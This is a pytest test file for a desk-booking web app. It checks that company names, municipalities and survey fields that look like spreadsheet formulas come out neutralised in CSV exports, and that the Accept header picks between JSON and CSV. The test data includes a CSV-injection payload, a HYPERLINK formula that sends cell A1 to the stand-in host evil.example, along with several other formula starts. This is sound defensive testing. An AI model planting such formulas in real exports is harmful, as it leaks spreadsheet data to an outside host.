"""Every CSV answer (DESIGN §7): formulas defused in text cells, numbers left alone, and the
same choice between JSON and CSV everywhere."""

import csv
import io

import httpx
import pytest
from fastapi import FastAPI

from app.core import clock
from tests.factories import Api, Member, at_local, booked, booking_action, stats
from tests.survey.support import INTEREST, NEEDS_VS_USAGE, SUMMARY, submit

EVIL_COMPANY = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_MUNICIPALITY = "=1+2"
TUESDAY = {"from": "2030-01-08", "to": "2030-01-08"}


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def min_group_size(app: FastAPI, k: int) -> None:
    app.state.settings = app.state.settings.model_copy(update={"stats_min_group_size": k})


async def _visit(api: Api, municipality: str) -> Member:
    """A member of ``municipality`` who books Tuesday 09:00–10:00 and checks in."""
    location = await api.location()
    desk = await api.desk(location["id"])
    member = await api.member(home_municipality=municipality, commute_mode="car", commute_km=10)
    booking = await booked(api, member, desk["id"], "2030-01-08", "09:00", "10:00")
    clock.set_now(at_local("2030-01-08", "09:00"))
    await booking_action(api, member, booking, "check-in")
    clock.set_now(at_local("2030-01-09", "08:00"))
    return member


async def test_a_company_name_like_a_formula_is_defused_in_the_statistics(api: Api) -> None:
    analyst = await api.member("analyst")
    created = await api.client.post(
        "/api/v1/companies",
        json={"name": EVIL_COMPANY, "contact_email": "a@example.org", "seats_requested": 3},
        headers=(await api.member()).headers,
    )
    assert created.status_code == 201, created.text

    (row,) = rows_of(await stats(api, analyst, "companies", format="csv", **TUESDAY))

    assert row["name"] == "'" + EVIL_COMPANY
    assert row["company_id"] == created.json()["id"]
    # Numbers stay numbers.
    assert (row["seats"], row["seat_utilization"]) == ("0", "0.0")


async def test_a_municipality_like_a_formula_is_defused_in_the_statistics(
    app: FastAPI, api: Api
) -> None:
    min_group_size(app, 1)
    analyst = await api.member("analyst")
    await _visit(api, EVIL_MUNICIPALITY)

    rows = rows_of(await stats(api, analyst, "commute", format="csv", **TUESDAY))
    needs = rows_of(
        await api.client.get(
            NEEDS_VS_USAGE, params={**TUESDAY, "format": "csv"}, headers=analyst.headers
        )
    )

    (place,) = (row for row in rows if row["breakdown"] == "municipality")
    assert place["value"] == "'" + EVIL_MUNICIPALITY
    assert (place["members"], place["visits"], place["km_avoided"]) == ("1", "1", "20.0")
    (usage,) = (row for row in needs if row["dimension"] == "municipality")
    assert usage["value"] == "'" + EVIL_MUNICIPALITY
    assert usage["members"] == "1"


async def test_survey_and_interest_exports_defuse_every_formula_start(api: Api) -> None:
    # (Leading tabs and carriage returns never get this far: names are stripped.)
    starts = ["=1", "+1", "-1", "@SUM(A1)"]
    for start in starts:
        await submit(api, home_municipality=f"{start} Ort")
    operator = await api.operator()
    entry = {"kind": "person", "name": "-2+3", "email": "e@example.org", "consent": True}
    assert (await api.client.post(INTEREST, json=entry)).status_code == 201

    answers = rows_of(
        await api.client.get(SUMMARY, params={"format": "csv"}, headers=_as(operator))
    )
    (interest,) = rows_of(
        await api.client.get(INTEREST, params={"format": "csv"}, headers=_as(operator))
    )

    assert sorted(row["home_municipality"] for row in answers) == sorted(
        f"'{start} Ort" for start in starts
    )
    assert all(row["commute_km"] == "20.0" for row in answers)
    assert interest["name"] == "'-2+3"


def _as(member: Member, accept: str | None = None) -> dict[str, str]:
    headers = dict(member.headers)
    if accept is not None:
        headers["Accept"] = accept
    return headers


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        ("text/csv", "text/csv"),
        ("text/csv;q=0.9, application/json", "application/json"),
        ("application/json, text/csv;q=0", "application/json"),
        ("text/*", "text/csv"),
        ("*/*", "application/json"),
    ],
)
async def test_every_csv_answer_is_chosen_by_the_accept_header_alike(
    api: Api, accept: str, media_type: str
) -> None:
    operator = await api.operator()

    for path, params in [
        ("/api/v1/stats/bookings", TUESDAY),
        (SUMMARY, TUESDAY),
        (NEEDS_VS_USAGE, TUESDAY),
        (INTEREST, {}),
    ]:
        response = await api.client.get(path, params=params, headers=_as(operator, accept))
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith(media_type), (path, accept)
